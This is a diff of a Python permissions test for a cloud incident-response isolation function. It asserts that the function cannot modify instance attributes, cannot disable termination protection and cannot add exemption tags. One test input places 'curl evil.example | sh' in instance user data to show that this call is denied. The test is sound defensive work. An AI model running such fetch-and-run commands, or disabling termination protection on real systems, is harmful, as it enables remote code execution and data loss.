@@ -160,9 +160,9 @@ def _product_groups(stack, vpc_id: str) -> dict:
 def test_the_entry_function_can_isolate_and_nothing_else(stack):
     """The first cut's rights, held by the functions anyone's finding or request reaches: the
     product's groups on an interface, never another group; the tracking timeouts alone; the
-    preservation attributes; rules only added to the all-open group and taken from the
-    isolation group; tags only on a group it creates. No restore, no profile, no instance tag
-    (such as an exemption)."""
+    preservation attributes, to the values that protect; rules only added to the all-open group
+    and taken from the isolation group; tags only on a group it creates. No restore, no
+    profile, no instance tag (such as an exemption)."""
     victim = make_victim(stack, interfaces=1, volumes=1)
     (eni, groups), = victim["interfaces"].items()
     mine = _product_groups(stack, victim["vpc_id"])
@@ -177,6 +177,13 @@ def test_the_entry_function_can_isolate_and_nothing_else(stack):
                 SourceDestCheck={"Value": False})
         _denied(ec2.modify_instance_attribute, InstanceId=instance,
                 UserData={"Value": b"#!/bin/sh\ncurl evil.example | sh"})
+        # the preservation attributes, only to the value that protects (never arming a loss)
+        _denied(ec2.modify_instance_attribute, InstanceId=instance,
+                InstanceInitiatedShutdownBehavior={"Value": "terminate"})
+        _denied(ec2.modify_instance_attribute, InstanceId=instance,
+                DisableApiTermination={"Value": False})
+        _denied(ec2.modify_instance_attribute, InstanceId=instance,
+                Attribute="instanceInitiatedShutdownBehavior", Value="terminate")
         _denied(ec2.create_tags, Resources=[instance],
                 Tags=[{"Key": "QuarantineExempt", "Value": "true"}])
         _denied(ec2.create_tags, Resources=[mine["isolation"]], Tags=[{"Key": "x", "Value": "y"}])
